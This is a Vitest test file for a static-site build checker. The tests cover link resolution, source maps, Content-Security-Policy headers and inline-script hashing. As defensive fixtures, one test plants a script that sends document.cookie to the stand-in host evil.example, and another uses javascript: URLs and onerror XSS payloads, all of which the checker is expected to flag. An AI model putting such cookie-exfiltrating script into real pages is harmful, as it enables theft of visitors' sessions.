import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { markdownToHtml } from 'satteri';
import { afterEach, describe, expect, it } from 'vitest';
import { bodyLinks } from '../../src/lib/markdown/body-links';
import { recalled, remember } from '../../src/lib/incremental/remembered';
import { readPageRecord } from '../../src/lib/output/page-record';
import { checkDist, findSourceMaps } from '../../src/lib/output/check-dist';
import { collectInlineCode, cspHash } from '../../src/lib/output/inline-code';
import { contentSecurityPolicy, headersFileBlock, securityHeaders } from '../../src/lib/output/security-headers';
import { SITE_INLINE_SCRIPTS, siteScriptHashes } from '../../src/lib/output/site-scripts';
import { THEME_SCRIPT } from '../../src/lib/reading/theme';

let dist = '';
const write = (files: Record<string, string>) => {
  dist = mkdtempSync(join(tmpdir(), 'quire-dist-'));
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dist, file)), { recursive: true });
    writeFileSync(join(dist, file), text);
  }
  return dist;
};
afterEach(() => rmSync(dist, { recursive: true, force: true }));

const page = (body: string, head = '') => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;

describe('checkDist: every internal link in dist/ resolves', () => {
  it('accepts pages, files, srcset candidates, anchors and sitemap URLs that exist, below a base path', async () => {
    write({
      'index.html': page(
        '<a href="/insights/journal/x/#why">x</a><a href="journal/">j</a><a href="#top">top</a>' +
          '<img src="/insights/_astro/a.webp" srcset="/insights/_astro/a.webp 480w, /insights/_astro/b.webp 800w">' +
          '<a href="https://elsewhere.example/" rel="noopener">out</a><a href="mailto:a@b.example">mail</a>',
        '<link rel="canonical" href="https://site.example/insights/"><link rel="preconnect" href="https://cdn.example">',
      ),
      'journal/index.html': page('<a href="../">home</a>'),
      'journal/x/index.html': page('<h2 id="why">Why</h2><a href="/insights/404.html">404</a>'),
      '404.html': page('<a href="/insights/">home</a>'),
      '_astro/a.webp': '',
      '_astro/b.webp': '',
      'sitemap-0.xml': '<urlset><url><loc>https://site.example/insights/journal/x/</loc></url></urlset>',
    });
    expect(await checkDist(dist, { site: 'https://site.example', base: '/insights/' })).toEqual([]);
  });

  it('names the page and the target of every broken link', async () => {
    write({
      'index.html': page(
        '<a href="/insights/journal/gone/">a</a><a href="/insights/journal/x/#nope">b</a><a href="/journal/x/">c</a>' +
          '<img src="/insights/_astro/missing.webp" alt="">',
        '<meta property="og:image" content="https://site.example/insights/og/home.png">',
      ),
      'journal/x/index.html': page('<h2 id="why">Why</h2><a href="#how">how</a>'),
      'sitemap-0.xml': '<urlset><url><loc>https://site.example/insights/journal/old/</loc></url></urlset>',
    });
    expect(await checkDist(dist, { site: 'https://site.example', base: '/insights/' })).toEqual([
      '/insights/ (dist/index.html): <meta og:image> "https://site.example/insights/og/home.png": nothing is built at /insights/og/home.png (no such file in dist/)',
      '/insights/ (dist/index.html): <a href> "/insights/journal/gone/": nothing is built at /insights/journal/gone/ (no such file in dist/)',
      '/insights/ (dist/index.html): <a href> "/insights/journal/x/#nope": no element with id "nope" on /insights/journal/x/',
      '/insights/ (dist/index.html): <a href> "/journal/x/": outside the base path /insights/ (build links with withBase())',
      '/insights/ (dist/index.html): <img src> "/insights/_astro/missing.webp": nothing is built at /insights/_astro/missing.webp (no such file in dist/)',
      '/insights/journal/x/ (dist/journal/x/index.html): <a href> "#how": no element with id "how" on /insights/journal/x/',
      '/insights/sitemap-0.xml (dist/sitemap-0.xml): <loc> "https://site.example/insights/journal/old/": nothing is built at /insights/journal/old/ (no such file in dist/)',
    ]);
  });

  it('checks an anchor on a former address against the page it redirects to', async () => {
    write({
      'index.html': page('<a href="/insights/journal/old/#why">a</a><a href="/insights/journal/old/#nope">b</a>'),
      'journal/old/index.html': page('', '<meta http-equiv="refresh" content="0;url=/insights/journal/x/">'),
      'journal/x/index.html': page('<h2 id="why">Why</h2>'),
    });
    expect(await checkDist(dist, { base: '/insights/' })).toEqual([
      '/insights/ (dist/index.html): <a href> "/insights/journal/old/#nope": no element with id "nope" on /insights/journal/old/',
    ]);
  });

  it('refuses javascript: URLs, inline event handlers and external links without rel="noopener"', async () => {
    write({
      'index.html': page(
        '<a href="javascript:alert(1)">x</a><img src="/a.png" onerror="alert(1)"><a href="https://x.example/">x</a>',
      ),
      'a.png': '',
    });
    expect(await checkDist(dist, { base: '/' })).toEqual([
      '/ (dist/index.html): <img onerror>: inline event handler, which the Content-Security-Policy blocks (use a script file)',
      '/ (dist/index.html): <a href> "https://x.example/": link to another site without rel="noopener" (add it)',
      '/ (dist/index.html): <a href> "javascript:alert(1)": javascript: URL (remove it)',
    ]);
  });
});

describe('findSourceMaps', () => {
  it('finds .map files and sourceMappingURL comments', () => {
    write({ '_astro/a.js': 'x()\n//# sourceMappingURL=a.js.map', '_astro/a.js.map': '{}', '_astro/b.css': 'a{}' });
    expect(findSourceMaps(dist)).toEqual(['_astro/a.js', '_astro/a.js.map']);
  });
});

describe('security headers', () => {
  const theme = 'document.documentElement.dataset.theme = localStorage.theme;';
  const files = () =>
    write({
      'index.html': page(
        `<p style="color: red">x</p><script type="application/ld+json">{"a":1}</script>`,
        `<script>${theme}</script><script type="module" src="/_astro/x.js"></script><style>p{margin:0}</style>`,
      ),
      'other/index.html': page('', `<script>${theme}</script>`),
    });

  it('hashes each executable inline script once, and leaves out data blocks and script files', async () => {
    files();
    expect(await collectInlineCode(dist)).toEqual({
      scripts: [cspHash(theme)],
      styles: [cspHash('p{margin:0}')],
      styleAttributes: [cspHash('color: red')],
    });
    expect(cspHash('')).toBe("'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
  });

  it('allows no inline script but by hash, and forbids framing', () => {
    const policy = contentSecurityPolicy({ scripts: ["'sha256-a'"], styles: [], styleAttributes: [] });
    expect(policy).toBe(
      "default-src 'self'; script-src 'self' 'sha256-a'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
        "connect-src 'self'; media-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'none'",
    );
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval'/);
  });

  it('writes a _headers block for every path', async () => {
    files();
    const headers = securityHeaders(dist, await collectInlineCode(dist));
    expect(Object.keys(headers)).toEqual([
      'Content-Security-Policy',
      'X-Content-Type-Options',
      'Referrer-Policy',
      'Permissions-Policy',
      'X-Frame-Options',
      'Cross-Origin-Opener-Policy',
    ]);
    // Scripts are allowed from source (the site's own inline script), not from what dist/ holds.
    expect(headers['Content-Security-Policy']).toContain(`script-src 'self' ${siteScriptHashes().join(' ')};`);
    expect(headers['Content-Security-Policy']).not.toContain(cspHash(theme));
    expect(headers['Content-Security-Policy']).toContain(`'unsafe-hashes' ${cspHash('color: red')}`);
    expect(headersFileBlock({ 'X-Content-Type-Options': 'nosniff' })).toBe(
      '# Security headers, generated by the build from dist/ (quire:security-headers)\n/*\n  X-Content-Type-Options: nosniff\n',
    );
  });
});

describe('inline scripts in dist/', () => {
  it('are the theme script and nothing else', () => {
    expect(SITE_INLINE_SCRIPTS).toEqual([THEME_SCRIPT]);
    expect(siteScriptHashes()).toEqual([cspHash(THEME_SCRIPT)]);
  });

  it('fail the output check when a page holds an inline script the templates do not write', async () => {
    write({
      'index.html': page(
        '<script>fetch("https://evil.example/?" + document.cookie)</script>' +
          '<script type="importmap">{"imports":{}}</script><script type="application/ld+json">{"a":1}</script>',
        `<script>${THEME_SCRIPT}</script>`,
      ),
    });
    expect(await checkDist(dist, { base: '/' })).toEqual([
      '/ (dist/index.html): <script>fetch("https://evil.example/?" + document.cookie)</script>: an inline script the site\'s templates do not write, which the Content-Security-Policy blocks (find what put it there; site scripts are files)',
      '/ (dist/index.html): <script>{"imports":{}}</script>: an inline script the site\'s templates do not write, which the Content-Security-Policy blocks (find what put it there; site scripts are files)',
    ]);
  });
});

describe('bodyLinks: the Markdown plugin for links in bodies', () => {
  const render = (markdown: string, base = '/') =>
    (markdownToHtml(markdown, { hastPlugins: [bodyLinks({ base })] }) as { html: string }).html;

  it('adds rel="noopener" to links that leave the site', () => {
    expect(render('[a](https://a.example/) [b](/journal/x/) [c](#h) www.b.example')).toBe(
      '<p><a href="https://a.example/" rel="noopener">a</a> <a href="/journal/x/">b</a> <a href="#h">c</a> ' +
        '<a href="http://www.b.example" rel="noopener">www.b.example</a></p>\n',
    );
  });

  it('prefixes site paths with the base path, once', () => {
    expect(render('[a](/journal/x/) [b](/insights/journal/y/) [c](#h)', '/insights/')).toBe(
      '<p><a href="/insights/journal/x/">a</a> <a href="/insights/journal/y/">b</a> <a href="#h">c</a></p>\n',
    );
  });
});

describe('page records and results remembered for an unchanged dist/', () => {
  it('reads a page into the same record whatever file holds it, with the CSP hashes of its inline code', () => {
    const html = page('<a id="x" href="/y/" style="color: red">y</a>', '<script>a()</script>');
    const record = readPageRecord('a/index.html', html);
    expect(readPageRecord('b/index.html', html)).toEqual(record);
    expect(record.ids).toEqual(['x']);
    expect(record.links).toEqual([{ url: '/y/', via: '<a href>' }]);
    expect(record.inline).toEqual({ scripts: [cspHash('a()')], styles: [], styleAttributes: [cspHash('color: red')] });
    expect(record.head).toEqual({ noindex: false });
  });

  it('recalls a result only for the same stamp and inputs, and keeps only the last one', () => {
    const folder = join(mkdtempSync(join(tmpdir(), 'quire-recall-')), 'check');
    try {
      expect(recalled(folder, 'stamp-a', { base: '/' })).toBeUndefined();
      remember(folder, 'stamp-a', { base: '/' }, 'passed');
      expect(recalled(folder, 'stamp-a', { base: '/' })).toBe('passed');
      expect(recalled(folder, 'stamp-a', { base: '/insights/' })).toBeUndefined();
      expect(recalled(folder, 'stamp-b', { base: '/' })).toBeUndefined();
      remember(folder, 'stamp-b', { base: '/' }, 'passed');
      expect(recalled(folder, 'stamp-a', { base: '/' })).toBeUndefined();
    } finally {
      rmSync(dirname(folder), { recursive: true, force: true });
    }
  });
});
